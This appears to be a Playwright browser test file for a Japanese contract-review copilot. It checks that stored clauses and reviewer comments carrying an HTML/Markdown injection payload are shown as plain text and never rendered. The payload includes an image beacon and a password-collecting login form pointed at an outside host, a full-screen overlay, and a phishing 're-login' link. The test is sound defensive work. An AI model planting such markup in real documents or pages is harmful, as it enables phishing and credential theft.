"""Stored text reaches the page as text, never as markup (Debian's Chromium through Playwright).

A contract clause and an auditor's edit comment carry an outside <img>, a login <form> with a
password field, a full-page position:fixed <div>, a Markdown image and link and 「<重要>」.
The lead opens the draft and asks a question that cites the clause: every payload is shown as
it stands, none of it is in the DOM as an element, and no request leaves loopback.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from playwright.sync_api import expect

from tests.browser import CHROMIUM, ForeignRequests, chromium, free_port, screenshot

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium (make system-deps)"),
]

USERS = (
    ("admin", "管理者", "admin"),
    ("sato", "佐藤 花子", "auditor"),
    ("suzuki", "鈴木 一郎", "lead"),
)
OUTSIDE = "203.0.113.9"
PAYLOAD = (
    f'<img src="http://{OUTSIDE}/x.png">'
    f'<form action="http://{OUTSIDE}/"><input type="password" name="p"></form>'
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">'
    f"![x](http://{OUTSIDE}/y.png)"
    f"[再ログインはこちら](http://{OUTSIDE}/login)"
    "<重要>"
)
SHOWN = [  # what the reader must see, literally
    "<重要>",
    f'<img src="http://{OUTSIDE}/x.png">',
    f'<form action="http://{OUTSIDE}/"><input type="password" name="p"></form>',
    '<div style="position:fixed;',
    f"![x](http://{OUTSIDE}/y.png)",
    f"[再ログインはこちら](http://{OUTSIDE}/login)",
]
COMMENT = f"根拠を確認した{PAYLOAD}"
QUESTION = "外部サービスで取り扱う市のデータは日本国内のデータセンターにのみ保存させるか"
# elements the payload would make, anywhere on the page
FROM_PAYLOAD = (
    f"img[src*='{OUTSIDE}'], form[action*='{OUTSIDE}'], a[href*='{OUTSIDE}'], input[name=p], "
    "[style*='position:fixed'], [style*='background:red']"
)
FOREIGN = ForeignRequests()


def password(name: str) -> str:
    return f"{name}-password-1"


def _write_docs(root: Path) -> Path:
    """A contract C-EVIL and a policy whose clauses carry the payload inside ordinary sentences."""
    contract = docx.Document()
    contract.add_heading("クラウドサービス利用契約書（C-EVIL）", 0)
    contract.add_heading("第1条（認証）", 2)
    contract.add_paragraph(
        "受注者は、本サービスを提供する組織においてISO/IEC 27001の認証を受けており、"
        f"契約期間中これを維持する{PAYLOAD}。"
    )
    contract.add_heading("第2条（データの保管場所）", 2)
    contract.add_paragraph(
        "本サービスで取り扱うデータ（バックアップを含む。）は、日本国内のデータセンターにのみ"
        f"保存する{PAYLOAD}。"
    )
    (root / "contracts" / "C-EVIL").mkdir(parents=True)
    contract.save(str(root / "contracts" / "C-EVIL" / "契約書.docx"))
    policy = docx.Document()
    policy.add_heading("検証用の情報セキュリティ規程", 0)
    policy.add_heading("第1条（データの保管場所）", 2)
    policy.add_paragraph(
        f"外部サービスで取り扱う市のデータは、日本国内のデータセンターにのみ保存させる{PAYLOAD}。"
    )
    (root / "policy").mkdir()
    policy.save(str(root / "policy" / "検証用規程.docx"))
    return root


@pytest.fixture(scope="module")
def app_settings(corpus_data_dir: Path, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """Settings over a copy of the ingested corpus plus the payload documents, three users."""
    from copilot.review.store import open_store
    from copilot.services import build_services
    from copilot.settings import load_settings

    base = tmp_path_factory.mktemp("security-ui")
    data = base / "data"
    shutil.copytree(corpus_data_dir, data, ignore=shutil.ignore_patterns("review.sqlite*"))
    settings = load_settings(data_dir=data)
    services = build_services(settings)
    try:
        report = services.ingest([_write_docs(base / "docs")])
    finally:
        services.close()
    assert not report.failed, report.failed
    with open_store(settings) as store:
        for name, display, role in USERS:
            store.add_user(
                name, display, role, password(name), by=None if role == "admin" else "admin"
            )
    return settings


@pytest.fixture(scope="module")
def app_url(app_settings) -> Iterator[str]:  # type: ignore[no-untyped-def]
    from ui.app import serve

    port = free_port()
    app = serve(app_settings, "127.0.0.1", port, block=False)
    try:
        yield f"http://127.0.0.1:{port}/"
    finally:
        app.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    with chromium() as b:
        yield b


@pytest.fixture(autouse=True)
def stays_on_loopback() -> Iterator[None]:
    yield
    assert not FOREIGN, f"the page asked hosts other than loopback: {FOREIGN}"


def open_as(browser, url: str, name: str):  # type: ignore[no-untyped-def]
    """A fresh page logged in as ``name``."""
    context = browser.new_context(locale="ja-JP", viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    FOREIGN.watch(page)
    page.goto(url)
    page.fill("input[type=text]", name)
    page.fill("input[type=password]", password(name))
    page.press("input[type=password]", "Enter")
    page.wait_for_selector("#who :text('ログイン中')", timeout=30_000)
    return page


def tab(page, name: str) -> None:  # type: ignore[no-untyped-def]
    page.get_by_role("tab", name=name).click()


def assert_literal(page, *containers: str) -> None:  # type: ignore[no-untyped-def]
    """Each container shows every payload as text and holds none of its elements."""
    for container in containers:
        text = page.inner_text(container)
        for s in SHOWN:
            assert s in text, f"{container} does not show {s!r}: {text[:2000]}"
        assert "\\" not in text, f"{container} shows a backslash: {text[:2000]}"
        # the one image allowed is the source view's page, drawn by the copilot as a data: PNG
        inside = ", ".join(
            f"{container} {what}"
            for what in ("img:not(figure.original-page img)", "form", "input", "a")
        )
        assert page.locator(inside).count() == 0, page.inner_html(container)[:3000]
        fixed = page.evaluate(
            """sel => [...document.querySelectorAll(sel + ' *')]
                .filter(e => getComputedStyle(e).position === 'fixed').length""",
            container,
        )
        assert fixed == 0, container
    assert page.locator(FROM_PAYLOAD).count() == 0


@pytest.fixture(scope="module")
def edited_draft(browser, app_url: str) -> Iterator[str]:
    """The auditor judges C-EVIL in the UI and saves an edit with the payload as its comment."""
    page = open_as(browser, app_url, "sato")
    tab(page, "チェックリスト審査")
    page.locator("#c-contract input").click()
    page.locator("#c-contract").get_by_role("option", name="C-EVIL").click()
    page.get_by_role("button", name="審査を実行").click()
    page.wait_for_selector("#run-msg :text('29 項目を判定')", timeout=180_000)
    table = page.locator("#checklist-table")  # the quotes open below the table (checked there)
    expect(table).to_contain_text("1-1-1")
    assert table.locator("img, form, input[type=password], a").count() == 0
    assert page.locator(FROM_PAYLOAD).count() == 0
    rows = page.locator("#checklist-table [role=row]")
    draft_id = next(
        cells.first.inner_text().strip()
        for i in range(1, rows.count())
        if (cells := rows.nth(i).locator("[role=gridcell]")).nth(1).inner_text().strip() == "1-1-1"
    )
    page.fill("#item-id input", draft_id)
    page.click("#item-open")
    expect(page.locator("#item-head")).to_contain_text(f"下書き {draft_id}・版 1", timeout=30_000)
    page.fill("#edit-advice textarea", f"認証の適用範囲を確かめること{PAYLOAD}")  # a change
    page.fill("#edit-comment textarea, #edit-comment input", COMMENT)
    page.click("#item-save")
    expect(page.locator("#item-save-msg")).to_contain_text("版 2", timeout=30_000)
    expect(page.locator("#item-head")).to_contain_text(f"下書き {draft_id}・版 2")
    assert_literal(page, "#item-head")
    page.context.close()
    yield draft_id


@pytest.fixture(scope="module")
def lead(browser, app_url: str):  # type: ignore[no-untyped-def]
    page = open_as(browser, app_url, "suzuki")
    yield page
    page.context.close()


def test_the_lead_sees_the_payload_of_a_clause_and_a_comment_as_text(
    lead, edited_draft: str, app_settings
):
    from copilot.review.store import open_store

    with open_store(app_settings) as store:
        draft = store.get_draft(int(edited_draft))
    assert draft.latest.comment == COMMENT  # stored as typed
    assert any("<重要>" in c["quote"] for c in draft.payload["evidence"])
    tab(lead, "チェックリスト審査")
    lead.fill("#item-id input", edited_draft)
    lead.click("#item-open")
    head = lead.locator("#item-head")
    expect(head).to_contain_text(f"下書き {edited_draft}・版 2", timeout=30_000)
    expect(lead.locator("#item-citations mark").first).to_be_visible()
    text = head.inner_text()
    assert f"「{COMMENT}」" in text  # the edit comment, exactly as the auditor typed it
    assert "理由" in text and "<重要>" in text.split("理由", 1)[1]  # the clause via the rationale
    assert_literal(lead, "#item-head", "#item-citations")
    screenshot(lead, "security-draft")


def test_the_answer_and_its_source_show_the_clause_as_text(lead):
    tab(lead, "質問")
    lead.get_by_label("質問").first.fill(QUESTION)
    lead.get_by_role("button", name="質問する").click()
    lead.wait_for_selector("#citations label", timeout=60_000)
    expect(lead.locator("#answer")).to_contain_text("<重要>")
    assert_literal(lead, "#answer")
    label = lead.locator("#citations label").filter(has_text="検証用規程")
    label.first.click()
    lead.wait_for_selector("#source mark", timeout=30_000)
    assert_literal(lead, "#source")
    screenshot(lead, "security-answer")


def _submit(page, path: Path, contract: str, replace: bool = False) -> None:  # type: ignore[no-untyped-def]
    """Ingest one file in 文書管理 as a contract document (a lead may tick the replacement)."""
    page.set_input_files("#ingest-files input[type=file]", str(path))
    expect(page.locator("#ingest-files")).to_contain_text(path.stem, timeout=30_000)
    page.locator("#ingest-kind input").click()
    page.get_by_role("option", name="契約書類", exact=True).click()
    page.get_by_label("契約番号（契約書類のとき）").fill(contract)
    if replace:
        page.locator("#ingest-replace input").check()
    page.get_by_role("button", name="取り込む").click()


def _upload(page, path: Path, contract: str, replace: bool = False) -> str:  # type: ignore[no-untyped-def]
    """Ingest one file in 文書管理 as a contract document; the message shown afterwards."""
    _submit(page, path, contract, replace)
    expect(page.locator("#ingest-msg")).to_contain_text("取り込み完了", timeout=120_000)
    return page.inner_text("#ingest-msg")


def test_same_named_uploads_for_two_contracts_stay_two_documents(
    browser, app_url, app_settings, tmp_path
):
    """契約書.docx for C-UPA, then another 契約書.docx for C-UPB: both are added (neither
    replaces the other); the same name again for C-UPA is refused to the auditor and is a new
    version when the lead ticks the replacement, which says so."""
    from copilot.services import build_services

    def contract(folder: str, sentence: str) -> Path:
        d = docx.Document()
        d.add_paragraph("第1条（再委託）")
        d.add_paragraph(sentence)
        (tmp_path / folder).mkdir()
        d.save(str(tmp_path / folder / "契約書.docx"))
        return tmp_path / folder / "契約書.docx"

    page = open_as(browser, app_url, "sato")
    try:
        tab(page, "文書管理")
        msg = _upload(page, contract("a", "受注者は、甲社の業務を再委託してはならない。"), "C-UPA")
        assert "追加 1" in msg and "contracts/C-UPA/契約書.docx" in msg
        page.reload()
        page.wait_for_selector("#who :text('ログイン中')", timeout=30_000)
        tab(page, "文書管理")
        msg = _upload(page, contract("b", "受注者は、乙社の承認で再委託できる。"), "C-UPB")
        assert "追加 1" in msg and "更新 0" in msg and "contracts/C-UPB/契約書.docx" in msg
        page.reload()
        page.wait_for_selector("#who :text('ログイン中')", timeout=30_000)
        tab(page, "文書管理")
        newer = contract("c", "受注者は、甲社の業務を一切再委託しない。")
        _submit(page, newer, "C-UPA")
        expect(page.get_by_text("同じ名前の文書").first).to_be_visible(timeout=60_000)
        expect(page.locator("#ingest-replace")).to_be_hidden()  # the lead's box
    finally:
        page.context.close()
    page = open_as(browser, app_url, "suzuki")
    try:
        tab(page, "文書管理")
        msg = _upload(page, newer, "C-UPA", replace=True)
        assert "更新 1" in msg and "新しい版" in msg and "contracts/C-UPA/契約書.docx" in msg
        assert "前の版は" in msg
    finally:
        page.context.close()
    services = build_services(app_settings)
    try:
        docs = {d.doc_id: d.contract for d in services.index.documents()}
        assert docs["contracts/C-UPA/契約書.docx"] == "C-UPA"
        assert docs["contracts/C-UPB/契約書.docx"] == "C-UPB"
        assert "乙社" in services.search("再委託", contract="C-UPB")[0].text
        assert "一切再委託しない" in services.search("再委託", contract="C-UPA")[0].text
    finally:
        services.close()
